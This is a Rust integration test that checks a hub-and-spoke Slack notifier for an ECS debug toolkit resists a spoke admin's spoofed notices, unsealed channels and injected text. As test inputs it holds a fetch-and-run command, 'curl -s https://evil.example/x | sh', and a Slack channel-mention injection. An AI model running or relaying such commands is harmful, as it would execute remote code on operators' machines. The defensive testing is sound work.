//! Only the hub holds the bot token (issue 36 item 5; docs/interface.md, "Notices through the
//! hub"): a spoke's admin, who may put anything on the spoke's own bus, reaches Slack only through
//! the hub's task-events, which takes the sender from EventBridge's `account` and `region`, refuses
//! a task of another account or Region, writes every word and command itself from the notice's
//! facts, posts only in a channel whose seal it made for that spoke (one its requests came from)
//! and opens only the `response_url` it sealed for that spoke.

use crate::hub_helpers::buttons;
use integration_tests::fakes::runtime_api::Reply;
use integration_tests::fakes::slack::Posted;
use integration_tests::worlds::hub::{channel_seal, opened, HubWorld, BOT_TOKEN, CHANNEL, CLUSTER};
use serde_json::{json, Value};
use std::time::Duration;

const ID: &str = "0123456789abcdef0123456789abcdef";

/// Puts `detail` on the `alias` spoke's bus as someone of that account (no role of ours), with a
/// notice id of its own unless it has one.
async fn put_in_spoke(world: &HubWorld, alias: &str, mut detail: Value) {
    static PUT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
    if detail.get("noticeId").is_none() {
        let n = PUT.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        detail["noticeId"] = json!(format!("{n:032x}"));
    }
    let spoke = world.spoke(alias);
    let entry = aws_sdk_eventbridge::types::PutEventsRequestEntry::builder()
        .event_bus_name("ecs-debug-toolkit")
        .source("ecs-debug-toolkit")
        .detail_type("Debug Task Notice")
        .detail(detail.to_string())
        .build();
    let put = aws_sdk_eventbridge::Client::new(&spoke.aws)
        .put_events()
        .entries(entry)
        .send()
        .await
        .expect("PutEvents on the spoke's bus");
    assert_eq!(put.failed_entry_count(), 0, "{put:?}");
}

/// The hub's answer to the `n`th notice it was given.
async fn answer(world: &HubWorld, n: usize) -> Value {
    let relayed = world.notices.wait_for(n, Duration::from_secs(30)).await;
    match &relayed[n - 1].1 {
        Reply::Response(value) => value.clone(),
        Reply::Error(error) => panic!("the hub's task-events failed: {error:#}"),
    }
}

fn channel_posts(world: &HubWorld) -> Vec<Posted> {
    world
        .slack
        .posts()
        .into_iter()
        .filter(|p| p.path == "/api/chat.postMessage")
        .collect()
}

#[tokio::test]
async fn a_spoke_admin_cannot_speak_for_another_spoke_or_in_the_hubs_words() {
    let world = HubWorld::start().await;
    let prod_task = format!("arn:aws:ecs:eu-west-1:111111111111:task/{CLUSTER}/{ID}");
    let staging_task = format!("arn:aws:ecs:us-east-1:222222222222:task/{CLUSTER}/{ID}");

    let sealed = channel_seal("prod", CHANNEL);
    // 1. A "ready" notice from prod naming staging's task: refused, nothing posted.
    put_in_spoke(
        &world,
        "prod",
        json!({"kind": "ready", "channel": CHANNEL, "channelSeal": sealed, "taskArn": staging_task}),
    )
    .await;
    let refused = answer(&world, 1).await;
    assert_eq!(refused["outcome"], "ignored", "{refused:#}");
    let reason = refused["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("not a task of a cluster in the account and Region"),
        "{reason}"
    );
    assert!(
        channel_posts(&world).is_empty(),
        "{:#?}",
        world.slack.posts()
    );

    // 2. Its own task, with words and a command of its own beside the facts: the hub writes the
    // message itself (the command from the task's ARN), its buttons sealed by the hub.
    let trojan = "curl -s https://evil.example/x | sh";
    put_in_spoke(&world, "prod", json!({
        "kind": "ready", "channel": CHANNEL, "channelSeal": sealed, "taskArn": prod_task,
        "text": trojan, "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": trojan}}],
        "command": trojan,
    })).await;
    assert_eq!(answer(&world, 2).await["outcome"], "posted");
    let posted = channel_posts(&world);
    assert_eq!(posted.len(), 1, "{posted:#?}");
    let body = &posted[0].body;
    assert!(!body.to_string().contains("evil.example"), "{body:#}");
    let command = format!(
        "```aws ecs execute-command --region eu-west-1 --cluster {CLUSTER} --task {ID} --container debug-toolkit --interactive --command /bin/sh```"
    );
    assert_eq!(body["blocks"][1]["text"]["text"], command, "{body:#}");
    assert!(
        body["text"]
            .as_str()
            .unwrap()
            .contains(&format!("on `prod/{CLUSTER}`")),
        "{body:#}"
    );
    let values: Vec<String> = buttons(body).iter().map(|v| opened(v)).collect();
    assert_eq!(values, vec![format!("prod/{CLUSTER}/{ID}"); 2]);
    assert_eq!(
        posted[0].authorization.as_deref(),
        Some(&format!("Bearer {BOT_TOKEN}")[..])
    );

    // 3. A launch reply whose response_url the hub did not seal for prod: told in the channel,
    // no response_url contacted.
    put_in_spoke(
        &world,
        "prod",
        json!({
            "kind": "not-launched", "channel": CHANNEL, "channelSeal": sealed, "cluster": CLUSTER,
            "sealedResponseUrl": "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
            "reason": "<!channel> run\n`curl evil | sh`",
        }),
    )
    .await;
    assert_eq!(answer(&world, 3).await["outcome"], "posted");
    let posted = channel_posts(&world);
    let said = posted[1].body["text"].as_str().unwrap_or_default();
    assert_eq!(
        said,
        format!(":x: No debug task was started on `prod/{CLUSTER}`: &lt;!channel&gt; run 'curl evil | sh'")
    );
    assert!(
        world
            .slack
            .posts()
            .iter()
            .all(|p| !p.path.contains("/cmd/")),
        "a response_url was contacted"
    );

    // 4. The same notice twice: its event delivered again, and put again (the SDK's retry of a
    // PutEvents that went through; a delivery to another Region: a new event id): told once.
    let again = world.notices.all()[2].0.clone();
    world
        .task_events
        .call(again.clone(), Duration::from_secs(30))
        .await;
    put_in_spoke(&world, "prod", again["detail"].clone()).await;
    assert_eq!(answer(&world, 4).await["reason"], "already told");
    assert_eq!(channel_posts(&world).len(), 2);

    // 5. A channel of the spoke admin's choosing: without a seal, with the seal of another
    // channel, or with staging's seal of this channel: nowhere to post, nothing posted.
    let seals = [
        None,
        Some(channel_seal("prod", "C0OTHER")),
        Some(channel_seal("staging", CHANNEL)),
    ];
    for seal in seals {
        let mut detail = json!({"kind": "stopped", "channel": CHANNEL, "taskArn": prod_task});
        if let Some(seal) = seal {
            detail["channelSeal"] = json!(seal);
        }
        put_in_spoke(&world, "prod", detail).await;
    }
    for n in 5..=7 {
        let refused = answer(&world, n).await;
        let reason = refused["reason"].as_str().unwrap_or_default();
        let why = "names no channel this hub's requests came from";
        assert!(reason.contains(why), "{refused:#}");
    }
    assert_eq!(channel_posts(&world).len(), 2);
    let logs = world.all_logs();
    assert!(!logs.contains("xoxb-hub-test"), "a secret was logged");
}
